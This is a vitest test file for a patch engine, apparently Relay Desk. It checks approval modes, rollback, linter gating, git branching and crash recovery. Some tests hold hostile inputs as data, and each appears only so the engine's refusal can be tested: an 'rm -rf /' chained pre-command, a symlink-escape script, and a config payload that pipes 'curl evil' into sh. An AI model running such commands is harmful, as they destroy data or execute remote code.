import { existsSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { defaultRelayConfig, writeRelayConfig, type RelayConfig } from '../../../src/engine/patch/config.js';
import { vouch } from '../../../src/engine/patch/voucher.js';
import { writePending } from '../../../src/engine/patch/state.js';
import { listCommitted, type TransactionRecord } from '../../../src/engine/records/index.js';
import { applyPatch, recoverPending, type Decision, type PendingReview } from '../../../src/engine/patch/transaction.js';
import { revertTransaction } from '../../../src/engine/patch/revert.js';
import { bootId } from '../../../src/engine/fs/process.js';
import { answer, searchReplace } from '../../helpers/patches.js';
import { emptyFolders, gitIn, gitRepo, readTree, tempDir, writeFiles } from '../../helpers/temp.js';

function project(files: Record<string, string>, patch: Partial<RelayConfig['patch']> = {}, git: Partial<RelayConfig['git']> = {}): { root: string; config: RelayConfig } {
  const root = gitRepo({ ...files, '.gitignore': '.relaycode/\n' });
  const base = defaultRelayConfig('demo');
  const config: RelayConfig = { ...base, patch: { ...base.patch, ...patch }, git: { ...base.git, ...git } };
  writeRelayConfig(root, config);
  return { root, config };
}

const approveAll = async (): Promise<Decision> => ({ approve: true });
const rejectAll = async (): Promise<Decision> => ({ approve: false, reason: 'not today' });
const mustNotAsk = async (): Promise<Decision> => {
  throw new Error('the policy should have decided without asking');
};

/** The same edit and new file as twoFileAnswer, on documents (no command treats them as code). */
const twoDocAnswer = (): string =>
  answer([
    { path: 'src/a.md', strategy: 'multi-search-replace', body: searchReplace('export const a = 1;', 'export const a = 2;') },
    { path: 'src/new/b.md', body: 'export const b = 1;' },
  ]);

const twoFileAnswer = (uuid?: string): string =>
  answer(
    [
      { path: 'src/a.ts', strategy: 'multi-search-replace', body: searchReplace('export const a = 1;', 'export const a = 2;') },
      { path: 'src/new/b.ts', body: 'export const b = 1;' },
    ],
    uuid ? { uuid } : {},
  );

describe('applyPatch', () => {
  describe('approval', () => {
    it('auto mode applies and records the transaction without asking', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\n' });
      const outcome = await applyPatch({ root, text: twoFileAnswer(), source: 'paste', decide: mustNotAsk });
      expect(outcome.status).toBe('applied');
      expect(readFileSync(path.join(root, 'src/a.ts'), 'utf8')).toBe('export const a = 2;\n');
      expect(readFileSync(path.join(root, 'src/new/b.ts'), 'utf8')).toBe('export const b = 1;\n');
      const [record] = listCommitted(root);
      expect(record).toMatchObject({ approved: true, decision: { by: 'auto' }, snapshot: { 'src/a.ts': 'export const a = 1;\n', 'src/new/b.ts': null } });
      expect(readdirSync(path.join(root, '.relaycode')).filter((n) => n.includes('pending'))).toEqual([]);
    });

    it('manual mode shows the applied files and diffs, then keeps them on approval', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\n' }, { approvalMode: 'manual' });
      let seen: PendingReview | undefined;
      const outcome = await applyPatch({
        root,
        text: twoFileAnswer(),
        source: 'paste',
        decide: async (review) => {
          seen = review;
          expect(readFileSync(path.join(root, 'src/a.ts'), 'utf8')).toBe('export const a = 2;\n'); // applied while waiting
          return { approve: true };
        },
      });
      expect(outcome.status).toBe('applied');
      expect(seen?.reason).toBe('manual-mode');
      expect(seen?.files.map((f) => [f.path, f.change, f.added, f.removed])).toEqual([
        ['src/a.ts', 'modify', 1, 1],
        ['src/new/b.ts', 'create', 1, 0],
      ]);
      expect(seen?.files[0]?.diff).toContain('-export const a = 1;\n+export const a = 2;');
    });

    it('rejection restores the tree byte for byte and removes created folders', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\r\n' }, { approvalMode: 'manual' });
      const before = readTree(root);
      const outcome = await applyPatch({ root, text: twoFileAnswer(), source: 'paste', decide: rejectAll });
      expect(outcome).toMatchObject({ status: 'rolled-back', error: { code: 'REJECTED' } });
      expect(readTree(root)).toEqual(before);
      expect(emptyFolders(root)).toEqual([]);
      expect(listCommitted(root)).toEqual([]);
      expect(readdirSync(path.join(root, '.relaycode')).filter((n) => n.endsWith('.yml'))).toEqual([]);
    });

    it('partial approval keeps the checked files, restores the others, and records which', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\n' }, { approvalMode: 'manual' });
      const outcome = await applyPatch({ root, text: twoFileAnswer(), source: 'paste', decide: async () => ({ approve: true, keep: ['src/a.ts'] }) });
      expect(outcome).toMatchObject({ status: 'applied', rolledBack: ['src/new/b.ts'] });
      expect(readFileSync(path.join(root, 'src/a.ts'), 'utf8')).toBe('export const a = 2;\n');
      expect(existsSync(path.join(root, 'src/new'))).toBe(false);
      expect(listCommitted(root)[0]?.decision).toEqual({ by: 'user', kept: ['src/a.ts'], rolledBack: ['src/new/b.ts'] });
    });
  });

  describe('checks', () => {
    // The commands here are small node scripts: they may run any code file of the project, so a
    // patch to one would wait for a person (code-files.ts). These answers change documents.
    const linter = ['node', 'lint.mjs'];
    // A linter that reports one error per line containing "BAD".
    const lintScript = `import { readFileSync, readdirSync } from 'node:fs';
let n = 0;
for (const f of readdirSync('src').filter((f) => f.endsWith('.md'))) n += readFileSync('src/' + f, 'utf8').split('\\n').filter((l) => l.includes('BAD')).length;
for (let i = 0; i < n; i++) console.log('src/x.md: error: BAD found');
process.exit(n > 0 ? 1 : 0);
`;

    it('auto-approves when the linter errors did not grow over the baseline', async () => {
      const { root } = project({ 'lint.mjs': lintScript, 'src/a.md': 'export const a = 1;\n', 'src/old.md': 'BAD\nBAD\n' }, { linter });
      const outcome = await applyPatch({ root, text: twoDocAnswer(), source: 'paste', decide: mustNotAsk });
      expect(outcome).toMatchObject({ status: 'applied', approvedBy: 'auto', linter: { errorsBefore: 2, errorsAfter: 2, added: 0 } });
    });

    it('asks when the patch adds linter errors, with the linter output', async () => {
      const { root } = project({ 'lint.mjs': lintScript, 'src/a.md': 'export const a = 1;\n', 'src/old.md': 'BAD\n' }, { linter });
      const text = answer([{ path: 'src/a.md', strategy: 'multi-search-replace', body: searchReplace('export const a = 1;', 'export const a = 1; // BAD') }]);
      let review: PendingReview | undefined;
      const outcome = await applyPatch({ root, text, source: 'paste', decide: async (r) => ((review = r), { approve: false }) });
      expect(outcome.status).toBe('rolled-back');
      expect(review).toMatchObject({ reason: 'linter-errors', linter: { errorsBefore: 1, errorsAfter: 2, added: 1 } });
      expect(review?.linter?.output).toContain('BAD found');
    });

    it('says a patch was not linted when the linter cannot be started, instead of counting it as clean', async () => {
      const { root } = project({ 'src/a.md': 'export const a = 1;\n' }, { linter: ['relay-no-such-linter-xyz', '--check'] });
      const outcome = await applyPatch({ root, text: twoDocAnswer(), source: 'paste', decide: mustNotAsk });
      expect(outcome.status).toBe('applied');
      expect(outcome.status === 'applied' && outcome.linter).toBeUndefined();
      expect(outcome.status === 'applied' && outcome.warnings.join('\n')).toMatch(/linter \(relay-no-such-linter-xyz --check\) could not be started.*not linted/);
      expect(listCommitted(root)[0]?.warnings.join('\n')).toContain('not linted');
    });

    it('refuses before writing anything when the preCommand fails', async () => {
      const { root } = project({ 'src/a.md': 'export const a = 1;\n' }, { preCommand: ['node', '-e', 'process.exit(3)'] });
      const before = readTree(root);
      const outcome = await applyPatch({ root, text: twoDocAnswer(), source: 'paste', decide: mustNotAsk });
      expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'PRE_COMMAND_FAILED' } });
      expect(readTree(root)).toEqual(before);
    });

    it('refuses commands that need a shell, naming the field, before anything runs', async () => {
      const { root, config } = project({ 'src/a.md': 'export const a = 1;\n' }, { preCommand: 'echo hi && rm -rf /' });
      const before = readTree(root);
      const outcome = await applyPatch({ root, text: twoDocAnswer(), source: 'paste', decide: mustNotAsk });
      expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'CONFIG_INVALID' } });
      expect(outcome.status === 'rejected' && outcome.error.message).toMatch(/patch\.preCommand: .*shell operator "&&"/);
      expect(readTree(root)).toEqual(before);
      // A config handed in directly (the app's own) is still never given to a shell.
      const direct = await applyPatch({ root, config, text: twoDocAnswer(), source: 'paste', decide: mustNotAsk });
      expect(direct).toMatchObject({ status: 'rejected', error: { code: 'PRE_COMMAND_FAILED' } });
      expect(direct.status === 'rejected' && direct.error.message).toContain('shell operator');
    });

    it('refuses a linter that needs a shell instead of letting every patch pass unchecked', async () => {
      const { root } = project({ 'src/a.md': 'export const a = 1;\n' }, { linter: 'npx eslint . | tee lint.log' });
      const outcome = await applyPatch({ root, text: twoDocAnswer(), source: 'paste', decide: mustNotAsk });
      expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'CONFIG_INVALID' } });
      expect(outcome.status === 'rejected' && outcome.error.message).toContain('patch.linter');
    });

    it('rolls back files a formatter (postCommand) changed outside the patch too', async () => {
      // The "formatter" rewrites the patched file and an unrelated tracked file, and creates a file.
      const formatter = `import { writeFileSync, readFileSync } from 'node:fs';
writeFileSync('src/a.md', readFileSync('src/a.md', 'utf8').replace('= 2', '=  2'));
writeFileSync('src/other.md', 'formatted\\n');
writeFileSync('src/cache.tmp', 'x');
`;
      const { root } = project({ 'fmt.mjs': formatter, 'src/a.md': 'export const a = 1;\n', 'src/other.md': 'untouched\n' }, { approvalMode: 'manual', postCommand: ['node', 'fmt.mjs'] });
      writeFileSync(path.join(root, 'src/other.md'), 'dirty but mine\n'); // uncommitted work the formatter clobbers
      const before = readTree(root);
      let review: PendingReview | undefined;
      const outcome = await applyPatch({ root, text: twoDocAnswer(), source: 'paste', decide: async (r) => ((review = r), { approve: false }) });
      expect(outcome.status).toBe('rolled-back');
      expect(review?.files.map((f) => f.path).sort()).toEqual(['src/a.md', 'src/cache.tmp', 'src/new/b.md', 'src/other.md']);
      expect(readTree(root)).toEqual(before);
    });

    it('rolls back what a formatter changed when the project is a subfolder of its git repository', async () => {
      const formatter = `import { writeFileSync, readFileSync } from 'node:fs';
writeFileSync('src/a.md', readFileSync('src/a.md', 'utf8').replace('= 2', '=  2'));
writeFileSync('src/other.md', 'formatted\\n');
`;
      const repo = gitRepo({ 'app/fmt.mjs': formatter, 'app/src/a.md': 'export const a = 1;\n', 'app/src/other.md': 'untouched\n', 'docs/readme.txt': 'docs\n', '.gitignore': '.relaycode/\n' });
      writeFileSync(path.join(repo, 'docs/readme.txt'), 'edited outside the project\n');
      const root = path.join(repo, 'app');
      const base = defaultRelayConfig('demo');
      writeRelayConfig(root, { ...base, patch: { ...base.patch, approvalMode: 'manual', postCommand: ['node', 'fmt.mjs'] } });
      const skip = ['.git', 'app/.relaycode', 'app/relay.config.json', '.gitignore'];
      const before = readTree(repo, skip);
      let review: PendingReview | undefined;
      const outcome = await applyPatch({ root, text: twoDocAnswer(), source: 'paste', decide: async (r) => ((review = r), { approve: false }) });
      expect(outcome.status).toBe('rolled-back');
      expect(review?.files.map((f) => f.path).sort()).toEqual(['src/a.md', 'src/new/b.md', 'src/other.md']);
      expect(readTree(repo, skip)).toEqual(before);
    });

    it('rolls back when the postCommand fails', async () => {
      const { root } = project({ 'src/a.md': 'export const a = 1;\n' }, { postCommand: ['node', '-e', 'process.exit(1)'] });
      const before = readTree(root);
      const outcome = await applyPatch({ root, text: twoDocAnswer(), source: 'paste', decide: mustNotAsk });
      expect(outcome).toMatchObject({ status: 'rolled-back', error: { code: 'POST_COMMAND_FAILED' } });
      expect(readTree(root)).toEqual(before);
    });
  });

  describe('identity of responses', () => {
    it('skips a response already applied (same content), saying so', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\n' });
      const text = twoFileAnswer();
      expect((await applyPatch({ root, text, source: 'paste', decide: approveAll })).status).toBe('applied');
      const again = await applyPatch({ root, text: text.replace(/\n/g, '\r\n'), source: 'clipboard', decide: approveAll });
      expect(again).toMatchObject({ status: 'skipped', reason: { code: 'ALREADY_APPLIED' } });
    });

    it('records a different answer that reuses a uuid under a fresh id', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\n' });
      const uuid = '11111111-2222-4333-8444-555555555555';
      await applyPatch({ root, text: twoFileAnswer(uuid), source: 'paste', decide: approveAll });
      const second = answer([{ path: 'src/c.ts', body: 'c' }], { uuid });
      const outcome = await applyPatch({ root, text: second, source: 'paste', decide: approveAll });
      expect(outcome).toMatchObject({ status: 'applied', uuid: `${uuid}-2` });
      expect(outcome.status === 'applied' && outcome.warnings.join()).toContain('reused uuid');
    });

    it('refuses an answer for another project', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\n' });
      const outcome = await applyPatch({ root, text: answer([{ path: 'x', body: 'x' }], { projectId: 'other' }), source: 'paste', decide: approveAll });
      expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'PROJECT_ID_MISMATCH' } });
    });
  });

  describe('paths', () => {
    it('refuses to write through a symlink that leads outside the project', async () => {
      const outside = tempDir('relay-outside-');
      const { root } = project({ 'src/a.ts': 'a\n' });
      symlinkSync(outside, path.join(root, 'link'));
      const outcome = await applyPatch({ root, text: answer([{ path: 'link/evil.sh', body: 'echo pwned' }]), source: 'paste', decide: approveAll });
      expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'UNSAFE_PATH' } });
      expect(readdirSync(outside)).toEqual([]);
    });

    it('refuses to write Relay Desk’s own state', async () => {
      const { root } = project({ 'src/a.ts': 'a\n' });
      const outcome = await applyPatch({ root, text: answer([{ path: '.relaycode/x.yml', body: 'approved: true' }]), source: 'paste', decide: approveAll });
      expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'UNSAFE_PATH' } });
    });
  });

  describe('git', () => {
    it('creates a branch named from the commit message when autoGitBranch is on', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\n' }, {}, { autoGitBranch: true });
      const outcome = await applyPatch({ root, text: answer([{ path: 'src/a.ts', body: 'x' }], { gitCommitMsg: 'feat(ui): Add the Button!' }), source: 'paste', decide: approveAll });
      expect(outcome).toMatchObject({ status: 'applied', branch: 'relay/feat-ui-add-the-button' });
      expect(gitIn(root, 'branch', '--show-current').trim()).toBe('relay/feat-ui-add-the-button');
    });

    it('numbers the branch when an earlier answer already took its name', async () => {
      const { root } = project({ 'src/a.ts': 'export const a = 1;\n' }, {}, { autoGitBranch: true });
      await applyPatch({ root, text: answer([{ path: 'src/a.ts', body: 'x' }], { gitCommitMsg: 'fix: typo' }), source: 'paste', decide: approveAll });
      const second = await applyPatch({ root, text: answer([{ path: 'src/a.ts', body: 'y' }], { gitCommitMsg: 'fix: typo' }), source: 'paste', decide: approveAll });
      expect(second).toMatchObject({ status: 'applied', branch: 'relay/fix-typo-2', warnings: [] });
      expect(gitIn(root, 'branch', '--show-current').trim()).toBe('relay/fix-typo-2');
    });
  });

  describe('crash recovery', () => {
    it('rolls back a transaction left pending by a dead process, and spares a live one', async () => {
      const { root } = project({ 'src/a.ts': 'original\n' });
      writeFiles(root, { 'src/a.ts': 'half-applied\n', 'src/created.ts': 'new\n' });
      const record = (owner: TransactionRecord['owner'], uuid: string): TransactionRecord => ({
        schemaVersion: 1,
        uuid,
        projectId: 'demo',
        createdAt: new Date().toISOString(),
        source: 'paste',
        contentHash: 'x',
        reasoning: [],
        operations: [],
        snapshot: { 'src/a.ts': 'original\n', 'src/created.ts': null },
        result: {},
        createdDirs: [],
        files: [],
        approved: false,
        warnings: [],
        ...(owner ? { owner } : {}),
      });
      // As the engine does: the repository vouches for each record it writes (voucher.ts).
      vouch(root, 'live');
      writePending(root, record({ pid: process.pid, bootId: bootId(), startedAt: '' }, 'live'));
      expect(await recoverPending(root)).toEqual({ recovered: [], problems: [], gitCommit: null });
      vouch(root, 'dead');
      writePending(root, record({ pid: 999_999_999, bootId: bootId(), startedAt: '' }, 'dead'));
      const recovered = await recoverPending(root);
      expect(recovered).toEqual({ recovered: [{ uuid: 'dead', restored: ['src/a.ts', 'src/created.ts'] }], problems: [], gitCommit: null });
      expect(readFileSync(path.join(root, 'src/a.ts'), 'utf8')).toBe('original\n');
      expect(existsSync(path.join(root, 'src/created.ts'))).toBe(false);
    });
  });
});

describe('revertTransaction', () => {
  it('undoes a transaction as a new one and marks the original', async () => {
    const { root } = project({ 'src/a.ts': 'export const a = 1;\n', 'src/gone.ts': 'bye\n' });
    const before = readTree(root);
    const text = answer([
      { path: 'src/a.ts', strategy: 'multi-search-replace', body: searchReplace('export const a = 1;', 'export const a = 2;') },
      { path: 'src/gone.ts', body: '//TODO: delete this file' },
      { path: 'src/new/b.ts', body: 'b' },
    ]);
    const applied = await applyPatch({ root, text, source: 'paste', decide: approveAll });
    expect(applied.status).toBe('applied');
    const reverted = await revertTransaction({ root, decide: approveAll });
    expect(reverted.status).toBe('applied');
    expect(readTree(root)).toEqual(before);
    const [revert, original] = listCommitted(root);
    expect(revert?.revertOf).toBe(applied.uuid);
    expect(original?.revertedBy).toBe(revert?.uuid);
    expect((await revertTransaction({ root, target: applied.uuid!, decide: approveAll })).status).toBe('rejected');
  });

  it('merges later edits elsewhere in a file (three-way)', async () => {
    const lines = Array.from({ length: 20 }, (_, i) => `line ${i}`).join('\n') + '\n';
    const { root } = project({ 'f.txt': lines });
    await applyPatch({ root, text: answer([{ path: 'f.txt', strategy: 'multi-search-replace', body: searchReplace('line 2', 'LINE TWO') }]), source: 'paste', decide: approveAll });
    const later = readFileSync(path.join(root, 'f.txt'), 'utf8').replace('line 17', 'line seventeen');
    writeFileSync(path.join(root, 'f.txt'), later);
    const outcome = await revertTransaction({ root, decide: approveAll });
    expect(outcome.status).toBe('applied');
    expect(readFileSync(path.join(root, 'f.txt'), 'utf8')).toBe(lines.replace('line 17', 'line seventeen'));
  });

  it('refuses, naming the file, when later edits overlap the change', async () => {
    const { root } = project({ 'f.txt': 'a\nb\nc\n' });
    await applyPatch({ root, text: answer([{ path: 'f.txt', strategy: 'multi-search-replace', body: searchReplace('b', 'B') }]), source: 'paste', decide: approveAll });
    writeFileSync(path.join(root, 'f.txt'), 'a\nB!\nc\n');
    const outcome = await revertTransaction({ root, decide: approveAll });
    expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'REVERT_CONFLICT', path: 'f.txt' } });
    expect(readFileSync(path.join(root, 'f.txt'), 'utf8')).toBe('a\nB!\nc\n');
  });
});

describe('messages that help', () => {
  it('suggests the file a wrongly-cased path meant', async () => {
    const { root } = project({ 'src/Button.tsx': 'export const a = 1;\n' });
    const outcome = await applyPatch({ root, text: answer([{ path: 'src/button.tsx', strategy: 'multi-search-replace', body: searchReplace('export const a = 1;', 'export const a = 2;') }]), source: 'paste', decide: approveAll });
    expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'FILE_NOT_FOUND' } });
    expect(outcome.status === 'rejected' && outcome.error.message).toContain('Did you mean src/Button.tsx?');
  });
});

describe('Relay Desk’s own files', () => {
  it.each(['relay.config.json', 'relais.config.json', 'relais/prompts/builder.system.txt'])('refuses a patch that writes %s', async (file) => {
    const { root } = project({ 'src/a.ts': 'a\n', 'relais.config.json': '{}\n' });
    const outcome = await applyPatch({ root, text: answer([{ path: file, body: '{"patch": {"postCommand": ["sh", "-c", "curl evil | sh"]}}' }]), source: 'paste', decide: approveAll });
    expect(outcome).toMatchObject({ status: 'rejected', error: { code: 'UNSAFE_PATH' } });
    expect(outcome.status === 'rejected' && outcome.error.message).toContain('belongs to Relay Desk itself');
  });

  it('leaves a folder named relais alone when the project does not use the tick runner', async () => {
    const { root } = project({ 'src/a.ts': 'a\n' });
    const outcome = await applyPatch({ root, text: answer([{ path: 'relais/notes.md', body: 'hello' }]), source: 'paste', decide: approveAll });
    expect(outcome.status).toBe('applied');
  });
});
